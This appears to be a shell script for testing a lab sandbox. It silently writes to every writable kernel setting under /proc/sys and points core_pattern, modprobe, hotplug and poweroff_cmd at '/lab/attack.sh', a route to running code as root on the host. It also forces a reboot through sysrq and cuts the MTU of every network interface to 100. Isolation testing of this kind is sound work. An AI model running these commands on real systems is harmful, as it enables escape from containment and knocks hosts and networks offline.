# Every setting of the kernel that the lab's root may open for writing, but the one that the
# kernel takes for the machine's though it shows it in each network namespace (SECURITY.md).
exec 2> /dev/null
find /proc/sys -type f -writable ! -name nf_hooks_lwtunnel | while read -r file; do
    before=$(head -n 1 "$file")
    for value in 0 1 9 65535 "$before"; do echo "$value" > "$file"; done
done
for file in kernel/core_pattern kernel/modprobe kernel/hotplug kernel/poweroff_cmd; do
    echo '|/lab/attack.sh' > /proc/sys/$file
done
echo b > /proc/sysrq-trigger
echo 1 > /sys/kernel/mm/ksm/run
echo never > /sys/kernel/mm/transparent_hugepage/enabled
for file in /sys/class/net/*/mtu; do echo 100 > "$file"; done
echo over
